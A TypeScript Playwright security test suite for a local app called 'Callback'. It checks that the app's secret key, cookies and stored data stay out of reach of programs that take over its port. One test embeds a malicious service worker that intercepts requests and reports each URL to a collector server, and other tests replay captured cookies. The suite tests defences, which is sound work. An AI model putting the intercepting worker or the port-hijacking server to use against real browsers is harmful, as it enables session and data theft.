import { once } from 'node:events'
import { readFile, stat } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect } from '@playwright/test'
import { WebSocketServer } from 'ws'
import { learnNames, sendRequest } from '../support/browser/send-request.ts'
import { addCard, card, dragTo } from '../support/e2e/board-page.ts'
import { test } from './fixtures.ts'

// The host is killed while its page is open, and other programs refuse or misbehave on purpose.
test.use({
  tolerates: [
    'net::ERR_',
    '401 (Unauthorized)',
    '403 (Forbidden)',
    'HTTP Authentication failed',
    'WebSocket',
  ],
})

/** Another program on this machine, and what browsers have sent to it. */
interface Intruder {
  readonly port: number
  readonly received: IncomingMessage[]
  readonly messages: string[]
  stop(): Promise<void>
}

/**
 * Starts a program that answers every request with `respond`, accepts every WebSocket, and claims to be the
 * host.
 */
async function startIntruder(port: number, respond: (path: string) => [string, string]): Promise<Intruder> {
  const received: IncomingMessage[] = []
  const messages: string[] = []
  const server: Server = createServer((request, response) => {
    received.push(request)
    const [type, body] = respond(request.url ?? '')
    response.writeHead(200, { 'content-type': type, 'cache-control': 'max-age=86400' }).end(body)
  })
  const sockets = new WebSocketServer({ server })
  sockets.on('connection', (socket, request) => {
    received.push(request)
    socket.on('message', (text) => messages.push(String(text)))
    socket.send(JSON.stringify({ proof: '0'.repeat(64) }))
  })
  server.listen(port, '127.0.0.1')
  await once(server, 'listening')
  return {
    port: (server.address() as AddressInfo).port,
    received,
    messages,
    async stop() {
      for (const socket of sockets.clients) socket.terminate()
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}

const anEmptyPage = (): [string, string] => ['text/html', '<!doctype html><title>Not Callback</title>']

test('the name of the origin lasts, is private, and is the same after every start', async ({
  folder,
  start,
}) => {
  const first = await start()
  const file = join(folder, 'browser-origin')
  const name = (await readFile(file, 'utf8')).trim()
  expect(((await stat(file)).mode & 0o777).toString(8)).toBe('600')
  const { app, port, folder: secretFolder } = learnNames(first.address())
  expect(app).toBe(`${name}.localhost:${port}`)
  await first.stop()
  const second = await start({ args: ['--port', String(port)] })
  expect(learnNames(second.address())).toMatchObject({ app })
  expect(learnNames(second.address()).folder).not.toBe(secretFolder)
})

test('the plain addresses of this machine show one sentence and no secret', async ({ page, start }) => {
  const host = await start()
  const { port, app, entry, folder } = learnNames(host.address())
  for (const name of ['localhost', '127.0.0.1', '[::1]']) {
    const response = await page.goto(`http://${name}:${port}/`)
    expect(response?.status()).toBe(403)
    await expect(page.getByRole('main')).toHaveText(
      'Callback.To open Callback, use the last link it printed in the terminal where you started it.',
    )
    const source = await page.content()
    for (const secret of [app, entry, folder.slice(1, -1), 'key=']) expect(source).not.toContain(secret)
  }
})

test('a program on another port gets no cookie, even if it knows the names', async ({ page, open }) => {
  const host = await open()
  const names = learnNames(host.address())
  const intruder = await startIntruder(0, anEmptyPage)
  for (const name of [names.app, names.entry])
    for (const path of ['/', '/index.html', '/keep'])
      await page.goto(`http://${name.replace(/:\d+$/, '')}:${intruder.port}${path}`)
  expect(intruder.received.length).toBeGreaterThanOrEqual(6)
  for (const { headers } of intruder.received) expect(headers.cookie).toBeUndefined()
  await intruder.stop()
  await page.goto(names.appOrigin + names.folder)
  await expect(page.getByRole('main', { name: 'Board' })).toBeVisible()
})

test('a tab without the folder reaches the app through the entry, and another browser does not', async ({
  page,
  open,
  context,
  openElsewhere,
}) => {
  const host = await open()
  const { appOrigin } = learnNames(host.address())
  await addCard(page, { company: 'Fabrikam' })
  const second = await context.newPage()
  await second.goto(appOrigin)
  await expect(card(second, 'Fabrikam')).toBeVisible()
  const other = await openElsewhere()
  expect((await other.goto(appOrigin))?.status()).toBe(401)
  await expect(other.getByRole('main')).toContainText('Callback only opens with the key in its address.')
})

test('a program that takes the port of a killed host is told nothing by an open page, and what it gets opens nothing later', async ({
  page,
  open,
  start,
}) => {
  const host = await open()
  await addCard(page, { company: 'Fabrikam' })
  const { port } = learnNames(host.address())
  await host.kill()
  const intruder = await startIntruder(port, anEmptyPage)
  const lost = page.getByText('Callback has stopped or can’t be reached. What you saved is safe.')
  await expect(lost).toBeVisible()
  // The user goes on, and the page tries to connect again and again.
  await dragTo(page, 'Fabrikam', 'Interview')
  await expect
    .poll(() => intruder.received.filter(({ headers }) => headers.upgrade).length)
    .toBeGreaterThanOrEqual(2)
  await expect(lost).toBeVisible()
  expect(intruder.messages).toEqual([])
  const cookies = intruder.received.map(({ headers }) => headers.cookie ?? '').filter(Boolean)
  expect(cookies.length).toBeGreaterThan(0)
  await intruder.stop()

  const next = await start({ args: ['--port', String(port)] })
  learnNames(next.address())
  for (const cookie of new Set(cookies)) {
    const replayed = await sendRequest({ port, headers: { cookie } })
    expect(replayed.status).toBe(401)
    expect(replayed.body).not.toContain('Fabrikam')
  }
  await page.goto(next.address())
  await expect(card(page, 'Fabrikam')).toBeVisible()
})

test('unsaved text is kept when a new link is opened after a restart, and what other programs stored is not', async ({
  page,
  open,
  start,
}) => {
  const first = await open()
  const { port } = learnNames(first.address())
  await page.evaluate(() => {
    localStorage.setItem('callback-unsaved:test', 'a few words')
    localStorage.setItem('other', 'of another program')
  })
  await first.stop()
  const second = await start({ args: ['--port', String(port)] })
  await page.goto(second.address())
  await expect(page.getByRole('main', { name: 'Board' })).toBeVisible()
  const stored = await page.evaluate(() => ({ ...localStorage }))
  expect(stored).toMatchObject({ 'callback-unsaved:test': 'a few words' })
  expect(stored).not.toHaveProperty('other')
  expect(JSON.stringify(stored)).not.toContain(learnNames(second.address()).folder)
})

test('a service worker of an earlier program gets neither key nor board', async ({ context, start }) => {
  const first = await start()
  const { port, appOrigin } = learnNames(first.address())
  await first.stop()
  const collector = await startIntruder(0, anEmptyPage)
  const worker = `
    oninstall = () => skipWaiting()
    onactivate = (event) => event.waitUntil(clients.claim())
    onfetch = (event) => {
      const seen = encodeURIComponent(event.request.url)
      fetch('http://127.0.0.1:${collector.port}/?seen=' + seen, { mode: 'no-cors' })
      event.respondWith(new Response('<title>Not Callback</title>', { headers: { 'content-type': 'text/html' } }))
    }`
  const register = `<!doctype html><title>waiting</title><script>
    localStorage.setItem('other', 'of another program')
    navigator.serviceWorker.register('/worker.js', { updateViaCache: 'all' })
      .then(() => navigator.serviceWorker.ready).then(() => { document.title = 'ready' })
  </script>`
  const intruder = await startIntruder(port, (path) =>
    path === '/worker.js' ? ['text/javascript', worker] : ['text/html', register],
  )
  // The page of the intruder stays open.
  const left = await context.newPage()
  await left.goto(appOrigin)
  await expect(left).toHaveTitle('ready')
  await intruder.stop()

  const second = await start({ args: ['--port', String(port)] })
  const used = second.address()
  const { folder } = learnNames(used)
  const key = new URL(used).searchParams.get('key') ?? ''
  const page = await context.newPage()
  // The worker is really in the way of everything at the origin of the app.
  await page.goto(`${appOrigin}/`)
  await expect(page).toHaveTitle('Not Callback')
  expect(collector.received.length).toBeGreaterThan(0)

  await page.goto(used)
  await expect(page.getByRole('main', { name: 'Board' })).toBeVisible()
  await expect(page).toHaveURL(({ href }) => href.startsWith(appOrigin + folder))
  const kept = await page.evaluate(async () => ({
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    stored: { ...localStorage },
  }))
  expect(kept.workers).toBe(0)
  expect(kept.stored).not.toHaveProperty('other')
  expect(JSON.stringify(kept.stored)).not.toContain(folder)

  // Not even the page that the program left open can install its worker again.
  expect(
    await left.evaluate(() =>
      navigator.serviceWorker.register('/worker.js', { updateViaCache: 'all' }).then(
        () => 'installed',
        () => 'refused',
      ),
    ),
  ).toBe('refused')
  await page.reload()
  await expect(page.getByRole('main', { name: 'Board' })).toBeVisible()
  const seen = collector.received.map(({ url }) => decodeURIComponent(url ?? '')).join('\n')
  expect(seen).toContain(`${appOrigin}/keep`)
  for (const secret of [key, folder.slice(1, -1), 'ticket']) expect(seen).not.toContain(secret)
  await collector.stop()
})
